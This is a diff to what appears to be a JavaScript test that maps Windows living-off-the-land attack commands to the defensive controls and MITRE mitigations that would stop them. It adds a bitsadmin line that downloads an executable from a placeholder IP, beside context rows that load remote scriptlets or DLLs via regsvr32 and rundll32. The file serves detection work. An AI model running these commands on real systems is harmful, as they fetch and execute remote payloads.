@@ -45,6 +45,12 @@ describe("what would have stopped it", () => {
       "keeps scrobj.dll out of regsvr32.exe",
     ],
     ["regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll", "firewall", "M1037", "block what regsvr32.exe sends out"],
+    [
+      "bitsadmin /transfer j http://203.0.113.9/a.exe C:\\Users\\a\\a.exe",
+      "firewall",
+      "M1037",
+      "the service BITS sends out",
+    ],
     ["rundll32 \\\\203.0.113.9@80\\s\\a.dll,Start", "suricata", "M1037", "WebDAV"],
     ["msiexec /q /i C:\\Users\\ann\\p.msi", "applocker", "M1038", "Windows Installer rule"],
     ["pcalua.exe -a C:\\Users\\ann\\a.exe", "exploitprotection", "M1050", "no child processes"],
